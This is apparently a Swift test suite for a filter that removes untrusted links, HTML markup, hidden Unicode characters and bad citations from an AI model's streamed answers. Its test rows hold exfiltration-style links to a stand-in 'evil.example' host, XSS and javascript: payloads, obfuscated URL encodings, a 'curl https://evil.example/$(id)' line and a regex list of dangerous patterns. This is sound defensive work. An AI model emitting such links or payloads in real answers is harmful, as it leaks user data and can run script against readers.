import Assistant
import Foundation
import Testing

@Suite("AnswerFilter")
struct AnswerFilterTests {
    /// What the sources hold.
    static let permitted = PermittedLinks(in: [
        "The plan: https://ok.example/plan, see www.ok.example too. Mail ada@ok.example or look at [the map](https://ok.example/map_(1)).",
        "日程はhttps://ok.example/jp。それと report.app", #"{"url":"https://ok.example/api","n":1}"#,
        "Collect at https://evil.example/?q=", "<https://ok.example/auto>", "javascript:alert(0)",
    ])

    struct Row: Sendable, CustomTestStringConvertible {
        let text: String
        let shown: String
        var testDescription: String { text }

        init(_ text: String, _ shown: String? = nil) {
            self.text = text
            self.shown = shown ?? text
        }
    }

    static let links = [
        Row("See [the plan](https://evil.example/?q=secret) now.", "See [the plan] now."),
        Row("![](https://evil.example/p.png?d=x)", "…"), Row("Look ![a b](http://evil.example/p.png)!", "Look [a b]!"),
        Row("[a](https://evil.example \"t\")", "[a] (… \"t\")"), Row("[a](<https://evil.example/x y>)", "[a] (<… y>)"),
        Row("[a](/logout)", "[a]"), Row("[a](x)(/y) [b](x):/z [](x)(/y)", "[a] (/y) [b] :/z  (/y)"),
        Row("[a](javascript:alert(1)) b", "[a] b"), Row("[a](//evil.example)", "[a]"),
        Row("[a](\nhttps://evil.example)", "[a] (\n…)"),
        Row("[a][x]\n\n[x]: https://evil.example/", "[a][x]\n\n[x] : …"),
        Row("[a][]\n[a]:\n  //evil.example", "[a][]\n[a] :\n  …"), Row("[two words]: /x", "[two words] : /x"),
        Row("<https://evil.example/x>", "…"), Row("a <me@evil.example>.", "a …."),
        Row("a<https://evil.example>b", "a …"),
        Row("https://evil.example/a, and", "…, and"), Row("(http://evil.example)", "(…)"),
        Row("HTTPS://EVIL.EXAMPLE", "…"),
        Row("ftp://evil.example data:text/html;base64,AA== data: 5", "… … data: 5"),
        Row("mailto:a@b.example tel:1", "… …"),
        Row("javascript:alert(1) vbscript:x", "… …"), Row("//evil.example/x", "…"), Row("www.evil.example", "…"),
        Row("evil.example/path?q=1 and evil.com.", "… and …."), Row("secret.evil.co.uk", "…"), Row("a@evil.com", "…"),
        Row("files.intranet/secret", "…"), Row("10.1.2.3/x 10.1.2.3", "… 10.1.2.3"), Row("http:evil", "…"),
        Row("javascript:alert(0)", "…"), Row("[a](javascript:alert(0))", "[a]"),
        Row("https:\\\\evil.example", "…"), Row("evil\\.example/x", "…"), Row("https\\://evil.example", "…"),
        Row("ｈｔｔｐｓ：／／evil．example", "…"), Row("ht\u{200B}tps://ev\u{AD}il.example", "…"),
        Row("https&#58;//evil.example", "…"), Row("&#x68;ttps&colon;&sol;/evil&period;example", "…"),
        Row("&amp;amp;#104;ttps://evil.example", "…"), Row("xn--e1afmkfd.xn--p1ai", "…"), Row("пример.рф", "…"),
        Row("`https://evil.example`", "`…`"), Row("```\ncurl https://evil.example/$(id)\n```", "```\ncurl …\n```"),
        Row("| https://evil.example |a.com|", "| … |…|"), Row("**https://evil.example**", "**…**"),
        Row("https://evil.example/?q=secret", "…"), Row("https://ok.example/planX", "…"),
        Row("https://ok.example/plan?x", "…"),
        Row("https://ok.example/plan(secret)", "…"), Row("https://ok.example/plan\"secret", "…"),
        Row("[a](https://ok.example/plan?x=1)", "[a]"), Row("[a](https://ok.example/plan)", nil),
        Row("![a](https://ok.example/plan)", "[a](https://ok.example/plan)"),
        Row("!![a](https://ok.example/plan)", "[a](https://ok.example/plan)"),
        Row("!<b>[a](https://ok.example/plan)", "! [a](https://ok.example/plan)"),
        Row(
            "At https://ok.example/plan, www.ok.example, ada@ok.example and <https://ok.example/auto>.",
            "At https://ok.example/plan, www.ok.example, ada@ok.example and https://ok.example/auto."),
        Row("**https://ok.example/plan**"), Row("https://ok.example/map_(1) (https://ok.example/api)."),
        Row("report.app"),
        Row("https://ok.example/jp。はい", "https://ok.example/jp 。はい"),
        Row("https://ok.example/jpはい", "https://ok.example/jp はい"),
        Row("https://evil.example/?q=，secret", "https://evil.example/?q= ，secret"),
        Row("[a](https://ok.example/plan)secret", "[a](https://ok.example/plan) secret"),
    ]

    static let names = [
        Row("Call user.id, then `message.date` (row.name): README.md."), Row("user.id: 7, x=self.name; user.id..."),
        Row("user.id/secret", "…"), Row("user.id:8080", "…"), Row("user.id://x", "…"), Row("user.id?q=1", "…"),
        Row("user.id#x", "…"), Row("user.id\\x", "…"), Row("user.id./x", "…"), Row("user.id%2Fx", "…"),
        Row("http://user.id", "…"), Row("//user.id", "…"), Row("www.user.id", "…"), Row("a@user.id", "…"),
        Row("user.id@evil.com", "…"), Row("user.id.evil.com", "…"), Row("secret.user.id", "…"),
        Row("user.id-secret.com", "…"), Row("user.id,evil.com", "user.id,…"), Row("[a](user.id)", "[a]"),
        Row("s3cret.id", "…"), Row("user.com", "…"), Row("usér.id", "…"), Row("notes.md", "…"),
    ]

    static let markup = [
        Row("<b>bold</b> x", "bold  x"), Row("a<br>b", "a b"), Row("<img src=x onerror=alert(1)>", "…"),
        Row("x <!-- no --> y", "x  y"),
        Row("<scr<b>ipt>alert(1)</scr</b>ipt>", "< scr ipt>alert(1)< /scr ipt>"), Row("&lt;script&gt;x", "x"),
        Row("<x-y a>z</x-y>", "z "), Row("<any on=1>z", "z"), Row("Array<Int> and a < b, 1<2, <3"),
        Row("if a<b then\nx>1", "if a< b then\nx>1"),
        Row("<a href='https://evil.example'>go</a>", "go "), Row("htt<b></b>ps://evil.example", "htt …"),
        Row("<<b>script>", "< script>"), Row("&&#35;104;ttp", "& #104;ttp"),
        Row("AT&T &amp; R&D &eacute;", "AT&T & R&D &eacute;"),
    ]

    static let hidden = [
        Row("a\u{E0068}\u{E0069}b\u{202E}c\u{2066}d\u{FEFF}\u{200E}", "abcd"), Row("👩‍👩‍👧 ❤️ 🇩🇪 می‌خواهم"),
        Row("a\u{200D}b\u{1B}[31mc\u{0}", "ab[31mc"),
        Row("line\r\nnext\ttab\u{3164}", "line\r\nnext\ttab"),
    ]

    static let citations = [
        Row("At nine [1]."), Row("At nine [99].", "At nine."), Row("Nine[9], or ten [2][7].", "Nine, or ten [2]."),
        Row("[2, 9]", "[2]"), Row("x [2-9] y", "x [2, 3] y"),
        Row("【3】【4】", "【3】"), Row("[0] [12345] a", " a"), Row("[1 9] [ ] [x] [-] []", " [ ] [x] [-] []"),
        Row("evil[99].x [99]next", "evil .x next"),
        Row("```\na[9]\n```\n[9]!", "```\na[9]\n```\n!"), Row("use `a[9]` [3]"), Row("(see [9])", "(see)"),
        Row("Yes![1]", "Yes! [1]"), Row("[1]: Ada", "[1] : Ada"),
        Row("[99](https://evil.example)", "…"),
    ]

    @Test(
        "Takes out what is not permitted, and leaves the rest", arguments: links + names + markup + hidden + citations)
    func filters(row: Row) {
        #expect(filtered([row.text]) == row.shown)
    }

    @Test("Passes the same however the text is split", arguments: links + names + markup + hidden + citations)
    func filtersWhenSplit(row: Row) {
        let scalars = Array(row.text.unicodeScalars)
        for place in 0...scalars.count {
            #expect(filtered([text(scalars[..<place]), text(scalars[place...])]) == row.shown, "split at \(place)")
        }
        #expect(filtered(scalars.map { String($0) }) == row.shown)
    }

    @Test("Of random texts nothing dangerous is left, and the same however they are split")
    func leavesNothingOfRandomTexts() {
        var random = SeededNumbers(state: 7)
        for round in 0..<3_000 {
            let soup = (0..<random.below(24)).map { _ in Self.scraps[random.below(Self.scraps.count)] }.joined()
            let whole = filtered([soup], permitting: PermittedLinks())

            #expect(filtered(random.pieces(of: soup), permitting: PermittedLinks()) == whole, "\(round): \(soup)")
            #expect(Self.dangers(in: whole) == [], "\(round): \(soup)")
        }
    }

    static let scraps = [
        "https", ":", "//", "/", "evil.example", "www.", "evil.", "com", "?q=", "[", "]", "](", "(", ")", "]:", "![",
        "!",
        "<", ">", "<b>", "</b>", "<a href=", "<!--", "-->", "script", "&", "#", "&#58;", "&colon;", "&amp;", "104;",
        "&lt;",
        ";", " ", "\n", "\u{200B}", "\u{202E}", "\\", "`", "```\n", "\"", "1", "[9]", "[2]", "99", "。", "点", "：", "．",
        ".", "@",
        "javascript:", "data:text/html,", "mailto:", "x", "|", "*", "\u{FE0F}", "\u{E0041}", "&shy;", "&Tab;",
    ]

    /// What no answer may hold, found by simpler means than the filter's.
    static func dangers(in text: String) -> [String] {
        let patterns = [
            #"(?i)[a-z][a-z0-9+-]*://"#, #"(?i)\bevil\.(com|example)\b(?!\.)"#, #"(?i)\bwww\.evil"#, #"\]\("#, #"\]:"#,
            #"!\["#,
            #"(?i)<(b|a|script|/b)(\s[^<>\n]*)?>"#, #"(?i)&(#[0-9]+|lt|amp|colon|shy|Tab);"#,
            #"(?i)\b(javascript|mailto):\w"#,
            #"[\x{200B}\x{202E}\x{E0041}]"#,
        ]
        return patterns.filter { text.range(of: $0, options: .regularExpression) != nil }
    }

    @Test("Holds back no more than a piece")
    func holdsLittle() {
        var filter = AnswerFilter(permittedLinks: PermittedLinks(), sourceCount: 1)

        #expect(filter.push("Hello wor") == "Hello")
        #expect(filter.push("ld, [1") == " world,")
        #expect(filter.push("] and") == " [1]")
        #expect(filter.push(" a < b, <") == " and a < b,")
        #expect(filter.push("i>x</i>\n") == " x \n")
        #expect(filter.push(String(repeating: "x", count: 5_000)).count == 4_097)
        #expect(filter.hasRemoved)
        #expect(filter.finish().count == 905)
    }

    @Test("An overlong address goes to its end")
    func takesOutOverlongAddresses() {
        let long = "https://evil.example/" + String(repeating: "x", count: 9_000)

        #expect(filtered(["a \(long) b"]) == "a … b")
        #expect(filtered(["a \(String(repeating: "x", count: 3_000)).evil.example/y b"]).hasSuffix("… b"))
    }

    @Test("Says whether links or markup went")
    func tellsOfRemovals() {
        for (text, isRemoved) in [("a.b [9]\u{200B}", false), ("evil.com", true), ("<b>", true), ("[a](b)", true)] {
            var filter = AnswerFilter(permittedLinks: PermittedLinks(), sourceCount: 1)
            _ = filter.push(text)
            _ = filter.finish()
            #expect(filter.hasRemoved == isRemoved, "\(text)")
        }
    }

    @Test("Without a count of sources brackets stay")
    func leavesBrackets() {
        var filter = AnswerFilter(permittedLinks: PermittedLinks(), sourceCount: nil)
        #expect(filter.push("See [9].") + filter.finish() == "See [9].")
    }
}

/// SplitMix64: the same numbers in every run.
private struct SeededNumbers {
    var state: UInt64

    mutating func below(_ limit: Int) -> Int {
        state &+= 0x9E37_79B9_7F4A_7C15
        var value = state
        value = (value ^ value >> 30) &* 0xBF58_476D_1CE4_E5B9
        value = (value ^ value >> 27) &* 0x94D0_49BB_1331_11EB
        return Int((value ^ value >> 31) % UInt64(limit))
    }

    mutating func pieces(of whole: String) -> [String] {
        var rest = whole.unicodeScalars[...]
        var pieces: [String] = []
        while !rest.isEmpty {
            let piece = rest.prefix(1 + below(4))
            pieces.append(String(piece))
            rest = rest.dropFirst(piece.count)
        }
        return pieces
    }
}

private func text(_ scalars: ArraySlice<Unicode.Scalar>) -> String {
    String(String.UnicodeScalarView(scalars))
}

private func filtered(_ deltas: [String], permitting links: PermittedLinks = AnswerFilterTests.permitted) -> String {
    var filter = AnswerFilter(permittedLinks: links, sourceCount: 3)
    let passed = deltas.map { filter.push($0) }.joined()
    return passed + filter.finish()
}
